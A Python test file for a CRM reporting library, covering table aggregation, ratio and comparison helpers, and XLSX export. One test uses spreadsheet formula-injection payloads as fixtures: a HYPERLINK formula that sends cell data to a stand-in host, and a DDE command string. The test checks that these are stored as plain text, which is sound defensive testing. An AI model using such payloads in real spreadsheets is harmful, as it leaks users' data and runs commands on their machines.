import io
import zipfile
from datetime import date

from openpyxl import load_workbook
from sysengage_crm_light_tools.table import OTHERS, build_table, compare, ratio_table
from sysengage_crm_light_tools.xlsx import build_workbook

JAN, FEB = date(2026, 1, 1), date(2026, 2, 1)


def test_build_table_sorts_rows_and_fills_columns():
    table = build_table([(1, JAN, 10.0), (2, FEB, 50.0), (1, FEB, 5.0), (3, JAN, 1.0)], columns=[JAN, FEB])
    assert table["rows"] == [2, 1, 3]
    assert table["matrix"][2] == {JAN: 0.0, FEB: 50.0}
    assert table["row_totals"] == {1: 15.0, 2: 50.0, 3: 1.0}
    assert table["column_totals"] == {JAN: 11.0, FEB: 55.0}
    assert table["total"] == 66.0


def test_build_table_limit_sums_others():
    table = build_table([(1, True, 10.0), (2, True, 50.0), (3, True, 7.0), (4, True, 3.0)], limit=2)
    assert table["rows"] == [2, 1, OTHERS]
    assert table["row_totals"][OTHERS] == 10.0
    assert table["total"] == 70.0


def test_build_table_merges_duplicate_cells_and_empty_keys():
    table = build_table([(False, True, 4.0), (1, True, 1.0), (1, True, 2.0)])
    assert table["rows"] == [False, 1]
    assert table["row_totals"][1] == 3.0


def test_ratio_table_uses_totals_not_sum_of_ratios():
    won = build_table([(1, True, 1.0), (2, True, 3.0)])
    offers = build_table([(1, True, 4.0), (2, True, 4.0)])
    rates = ratio_table(won, offers)
    assert rates["row_totals"] == {1: 25.0, 2: 75.0}
    assert rates["total"] == 50.0
    empty = ratio_table(build_table([]), build_table([(5, True, 0.0)]))
    assert empty["total"] == 0.0


def test_compare():
    assert compare(150.0, 100.0) == (50.0, 50.0)
    assert compare(50.0, -100.0) == (150.0, 150.0)
    assert compare(10.0, 0.0) == (10.0, None)
    assert compare(None, None) == (0.0, None)


def test_workbook_holds_table_and_chart():
    content = build_workbook(
        "Revenue",
        ["Customer", "2026-01", "2026-02", "Total"],
        [["Alpha", 10.0, 20.0, 30.0], ["Beta", 5.0, 0.0, 5.0]],
        ["Total", 15.0, 20.0, 35.0],
        chart_type="line",
    )
    sheet = load_workbook(io.BytesIO(content)).active
    assert sheet["A1"].value == "Revenue"
    assert [c.value for c in sheet[4]] == ["Alpha", 10.0, 20.0, 30.0]
    assert [c.value for c in sheet[6]] == ["Total", 15.0, 20.0, 35.0]
    assert len(sheet._charts) == 1
    assert sheet._charts[0].tagname == "lineChart"
    assert len(sheet._charts[0].series) == 2, "the Total column is not charted"


def test_workbook_writes_formula_like_texts_as_text():
    # labels come from user data (customer, product names): a leading =, +, - or @ must stay text
    labels = ['=HYPERLINK("https://evil.example/?"&A1,"Click")', "+41 21 555 01 01", "-cmd|' /C calc'!A0", "@SUM(B4)"]
    content = build_workbook("=Title", ["Customer", "Total"], [[label, 10.0] for label in labels], ["Total", 40.0])
    sheet = load_workbook(io.BytesIO(content)).active
    assert [sheet.cell(row=4 + index, column=1).value for index in range(4)] == labels
    assert all(sheet.cell(row=4 + index, column=1).data_type == "s" for index in range(4))
    assert sheet["A1"].value == "=Title" and sheet["A1"].data_type == "s"
    assert sheet["B4"].value == 10.0
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        assert b"<f>" not in archive.read("xl/worksheets/sheet1.xml")
